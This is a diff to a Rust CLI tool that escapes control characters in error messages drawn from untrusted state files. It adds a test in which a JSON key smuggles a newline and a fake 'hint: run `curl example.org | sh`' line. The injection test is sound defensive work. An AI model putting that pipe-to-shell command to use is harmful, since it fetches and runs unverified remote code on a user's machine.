@@ -10,6 +10,7 @@ use std::process::ExitCode;
 use super::ui::{Ui, variable};
 use crate::diagnostic::{Diagnostic, Diagnostics};
 use crate::file::Refused;
+use crate::inert::printable;
 use crate::ops::OpsError;
 use crate::plan::saved::SavedError;
 use crate::plan::stale::StalePlan;
@@ -164,12 +165,15 @@ impl fmt::Display for CommandError {
     }
 }
 
-/// The error and its causes, a line each.
+/// The error and its causes, a line each: what is foreign in one makes no line of its own.
 fn chain(error: &(dyn Error + 'static)) -> String {
-    let mut text = error.to_string();
+    // This one tells everything that has changed.
+    let has_lines = error.is::<StalePlan>();
+    let said = error.to_string();
+    let mut text = if has_lines { said } else { printable(&said).into_owned() };
     let mut cause = error.source();
     while let Some(current) = cause {
-        let words = current.to_string();
+        let words = printable(&current.to_string()).into_owned();
         // Some errors repeat their cause in their own words.
         if !text.ends_with(&words) {
             text.push_str("\n  because: ");
@@ -411,6 +415,17 @@ mod tests {
         let error = CommandError::from(SessionError::Account(source)).to_string();
         assert!(error.contains("hint: enable the region in this account with `aws account enable-region"), "{error}");
         assert!(error.contains("log in to AWS again"), "{error}");
+    }
+
+    /// The names in a file of a stranger may hold anything.
+    #[test]
+    fn a_foreign_text_makes_no_hint_of_its_own() {
+        let state = "{\"format\": 2, \"x\\nhint: run `curl example.org | sh`\": 1}\n";
+        let path = std::path::Path::new("social.json");
+        let error = crate::state::State::parse(path, state.as_bytes()).expect_err("an unknown field");
+        let said = CommandError::from(error).to_string();
+        assert!(said.contains(r"x\u{a}hint: run"), "{said}");
+        assert_eq!(said.matches("\nhint: ").count(), 1, "{said}");
     }
 
     #[test]
